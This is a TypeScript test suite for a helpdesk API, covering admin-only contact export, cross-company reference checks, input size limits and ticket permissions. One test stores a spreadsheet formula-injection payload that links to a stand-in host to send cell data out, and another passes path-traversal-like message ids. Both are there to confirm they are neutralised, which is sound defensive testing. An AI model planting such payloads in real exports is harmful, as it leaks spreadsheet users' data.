/**
 * Inputs that hold against an attacker (issue #14): the contacts export (admins only, formulas
 * neutralised), upper bounds and malformed fields answering 400 ERR_VALIDATION instead of 500,
 * agents creating tickets only in their queues, and ERR_OTHER_OPEN_TICKET telling someone who
 * may not see that ticket no more than that one exists.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { agentOf } from './support/people.ts';
import { startTestRuntime, type TestRuntime } from './support/runtime.ts';
import { companyWithPendingTicket } from './support/sandbox.ts';

let env: TestRuntime;

beforeAll(async () => {
  env = await startTestRuntime();
});
afterAll(async () => env?.stop());

type Ticket = {
  id: number;
  uuid: string;
  contactId: number;
  userId?: number | null;
  queueId?: number | null;
};
type Contact = { id: number };

const text = (length: number) => 'a'.repeat(length);

async function queue(admin: ReturnType<TestRuntime['client']>, name: string, color: string): Promise<number> {
  const created = await admin.post<{ id: number }>('/queue', { name, color });
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  return created.body.id;
}

describe('the contacts export', () => {
  it('is for admins only, and a name a spreadsheet would run comes out as text', async () => {
    const { admin, company } = await companyWithPendingTicket(env, 'Exporta', '5511980000401');
    const formula = '=HYPERLINK("http://x.example?"&A1;"ok")';
    expect((await admin.post('/contacts', { name: formula, number: '5511980000402' })).status).toBe(201);
    const { agent } = await agentOf(admin, company.companyId, 'exporta');

    const refused = await fetch(`${env.runtime.url}/api/contacts/export`, {
      headers: { authorization: `Bearer ${agent.token}` },
    });
    expect(refused.status).toBe(403);
    expect(await refused.json()).toEqual({ error: 'ERR_NO_PERMISSION' });

    const csv = await fetch(`${env.runtime.url}/api/contacts/export`, {
      headers: { authorization: `Bearer ${admin.token}` },
    });
    expect(csv.status).toBe(200);
    const lines = (await csv.text()).trim().split('\n');
    expect(lines).toContain(`"'=HYPERLINK(""http://x.example?""&A1;""ok"")";5511980000402;`);
    expect(lines.some((line) => line.startsWith('=') || line.startsWith('"='))).toBe(false);
  });
});

describe('references on save', () => {
  it("refuse a user's queue or connection that is not the company's own, on create and on change", async () => {
    const a = await companyWithPendingTicket<Ticket>(env, 'RefA', '5511980000421');
    const b = await companyWithPendingTicket<Ticket>(env, 'RefB', '5511980000422');
    // Ids are per company: B's second queue has an id that A does not have.
    await queue(b.admin, 'Ventas B', '#0000aa');
    const queueOfB = await queue(b.admin, 'Soporte B', '#0000bb');
    const ownQueue = await queue(a.admin, 'Ventas A', '#00aa00');
    expect(queueOfB).not.toBe(ownQueue);
    const refused = (answer: { status: number; body: unknown }, field: string) => {
      expect(answer.status, JSON.stringify(answer.body)).toBe(400);
      expect(answer.body).toMatchObject({ error: 'ERR_VALIDATION' });
      expect(JSON.stringify(answer.body)).toContain(field);
    };
    const user = (suffix: string, fields: Record<string, unknown>) => ({
      name: `Agente ${suffix}`,
      email: `ref-${suffix}-${Date.now()}@example.com`,
      password: 'secret1',
      profile: 'user',
      allTicket: 'enabled',
      queueIds: [],
      ...fields,
    });
    refused(await a.admin.post('/users', user('q1', { queueIds: [999_999] })), 'queueIds');
    refused(await a.admin.post('/users', user('q2', { queueIds: [ownQueue, queueOfB] })), 'queueIds');
    refused(await a.admin.post('/users', user('w1', { whatsappId: 999_999 })), 'whatsappId');
    const created = await a.admin.post<{ id: number }>('/users', user('ok', { queueIds: [ownQueue] }));
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    refused(await a.admin.put(`/users/${created.body.id}`, { queueIds: [queueOfB] }), 'queueIds');
    refused(await a.admin.put(`/users/${created.body.id}`, { whatsappId: 999_999 }), 'whatsappId');
    const unchanged = await a.admin.get<{ queues: { id: number }[] }>(`/users/${created.body.id}`);
    expect(unchanged.body.queues.map((q) => q.id)).toEqual([ownQueue]);
  });

  it('refuse an AI prompt or a queue integration a queue or a connection names that does not exist', async () => {
    const { admin } = await companyWithPendingTicket<Ticket>(env, 'RefBot', '5511980000423');
    const refused = (answer: { status: number; body: unknown }, field: string) => {
      expect(answer.status, JSON.stringify(answer.body)).toBe(400);
      expect(JSON.stringify(answer.body)).toContain(field);
    };
    refused(await admin.post('/queue', { name: 'Con prompt', color: '#aa0000', promptId: 999_999 }), 'promptId');
    refused(await admin.post('/queue', { name: 'Con bot', color: '#aa00aa', integrationId: 999_999 }), 'integrationId');
    const queueId = await queue(admin, 'Sin bot', '#aaaa00');
    refused(await admin.put(`/queue/${queueId}`, { promptId: 999_999 }), 'promptId');
    refused(await admin.post('/whatsapp', { name: 'Con bot', provider: 'sandbox', integrationId: 999_999 }), 'integrationId');
    const connections = await admin.get<{ id: number }[]>('/whatsapp');
    refused(await admin.put(`/whatsapp/${connections.body[0]!.id}`, { promptId: 999_999 }), 'promptId');
    // Clearing one (null) is still fine.
    expect((await admin.put(`/queue/${queueId}`, { promptId: null })).status).toBe(200);
  });
});

describe('malformed and overlong inputs', () => {
  it('answer 400 ERR_VALIDATION, never 500', async () => {
    const { admin, ticket } = await companyWithPendingTicket<Ticket>(env, 'Limites', '5511980000411');
    const validation = (answer: { status: number; body: unknown }, what: string) => {
      expect(answer.status, `${what}: ${JSON.stringify(answer.body)}`).toBe(400);
      expect((answer.body as { error: string }).error, what).toBe('ERR_VALIDATION');
    };

    // Tags and queue options once stored 150–300 KB texts and answered 500 above ~250 KB.
    // 200 KB fits the body cap (256 KiB) and is refused by the field's bound; 300 KB by the cap.
    const huge = text(200_000);
    const tooLarge = await admin.post<{ error: string }>('/tags', { name: text(300_000) });
    expect([tooLarge.status, tooLarge.body.error]).toEqual([413, 'ERR_PAYLOAD_TOO_LARGE']);
    validation(await admin.post('/tags', { name: huge }), 'a 200 KB tag name');
    validation(await admin.post('/tags', { name: 'Urgente', color: huge }), 'a 200 KB tag colour');
    const tagId = (await admin.post<{ id: number }>('/tags', { name: 'Acotada' })).body.id;
    validation(await admin.put(`/tags/${tagId}`, { name: text(101) }), 'a 101-character tag name');
    const queueId = await queue(admin, 'Menu', '#00aa00');
    validation(await admin.post('/queue-options', { queueId, title: huge, option: '1' }), 'a 200 KB option title');
    validation(
      await admin.post('/queue-options', { queueId, title: 'Precios', option: '1', message: huge }),
      'a 200 KB option message',
    );
    const optionId = (await admin.post<{ id: number }>('/queue-options', { queueId, title: 'Precios', option: '1' })).body.id;
    validation(await admin.put(`/queue-options/${optionId}`, { message: huge }), 'a 200 KB option message (PUT)');

    // A reply quoting something that is not a message: malformed JSON, a number, a path.
    for (const quotedMsg of ['{not json', 42, { id: '../../c1/x' }, { id: 5 }, '{}'])
      validation(
        await admin.post(`/messages/${ticket.id}`, { body: 'hola', quotedMsg }),
        `quotedMsg ${JSON.stringify(quotedMsg)}`,
      );
    // A well-formed one still sends.
    expect(
      (
        await admin.post(`/messages/${ticket.id}`, {
          body: 'hola',
          quotedMsg: JSON.stringify({ id: 'Limites-1' }),
        })
      ).status,
    ).toBe(201);

    validation(
      await admin.post('/ticket-notes', {
        note: text(5001),
        ticketId: ticket.id,
        contactId: ticket.contactId,
      }),
      'note',
    );
    validation(
      await admin.post('/quick-messages', { shortcode: 'largo', message: text(10_001) }),
      'quick message',
    );
    validation(await admin.post('/quick-messages', { shortcode: text(51), message: 'hola' }), 'shortcode');
    validation(
      await admin.put(`/contacts/${ticket.contactId}`, {
        extraInfo: Array.from({ length: 51 }, (_, i) => ({ name: `campo ${i}`, value: '1' })),
      }),
      'extraInfo count',
    );
    validation(
      await admin.put(`/contacts/${ticket.contactId}`, { extraInfo: [{ name: 'CPF', value: text(1001) }] }),
      'extraInfo value',
    );
    for (const path of ['/contacts', '/tickets', `/messages/${ticket.id}`, '/quick-messages'])
      validation(await admin.get(`${path}?pageNumber=10001`), `${path} pageNumber`);
    validation(await admin.get(`/contacts?searchParam=${text(201)}`), 'searchParam');

    // Within the bounds all is well.
    expect(
      (
        await admin.post('/ticket-notes', {
          note: text(5000),
          ticketId: ticket.id,
          contactId: ticket.contactId,
        })
      ).status,
    ).toBe(201);
    expect((await admin.get('/contacts?pageNumber=10000')).status).toBe(200);
  });
});

describe('creating tickets', () => {
  it('agents only in their own queues; the other open ticket’s details only to whoever may see it', async () => {
    const {
      admin,
      company,
      ticket: pending,
    } = await companyWithPendingTicket<Ticket>(env, 'Colas', '5511980000421');
    const mine = await queue(admin, 'Ventas', '#0a7cff');
    const theirs = await queue(admin, 'Soporte', '#e91e63');
    const { agent, userId } = await agentOf(admin, company.companyId, 'colas', {
      queueIds: [mine],
      allTicket: 'desabled',
    });
    const contact = (await admin.post<Contact>('/contacts', { name: 'Nuevo', number: '5511980000422' })).body;

    const elsewhere = await agent.post('/tickets', {
      contactId: contact.id,
      status: 'open',
      queueId: theirs,
    });
    expect(elsewhere.status).toBe(403);
    expect(elsewhere.body).toEqual({ error: 'ERR_NO_PERMISSION' });
    const own = await agent.post<Ticket>('/tickets', {
      contactId: contact.id,
      status: 'open',
      queueId: mine,
    });
    expect(own.status).toBe(201);
    expect(own.body).toMatchObject({ userId, queueId: mine });

    // The customer's pending ticket has no queue: this agent may not see it, and hears only that it exists.
    const hidden = await agent.post('/tickets', {
      contactId: pending.contactId,
      status: 'open',
      queueId: mine,
    });
    expect(hidden.status).toBe(409);
    expect(hidden.body).toEqual({ error: 'ERR_OTHER_OPEN_TICKET' });
    // The admin sees every ticket: which one it is.
    const told = await admin.post('/tickets', {
      contactId: pending.contactId,
      status: 'open',
      userId: company.user.id,
    });
    expect(told.status).toBe(409);
    expect(told.body).toMatchObject({
      error: 'ERR_OTHER_OPEN_TICKET',
      ticketId: pending.id,
      uuid: pending.uuid,
      userId: null,
    });
    // The agent's own ticket: its details, so the SPA opens it.
    const again = await agent.post('/tickets', { contactId: contact.id, status: 'open', queueId: mine });
    expect(again.status).toBe(409);
    expect(again.body).toMatchObject({
      error: 'ERR_OTHER_OPEN_TICKET',
      ticketId: own.body.id,
      uuid: own.body.uuid,
      userId,
      queueName: 'Ventas',
    });
  });
});
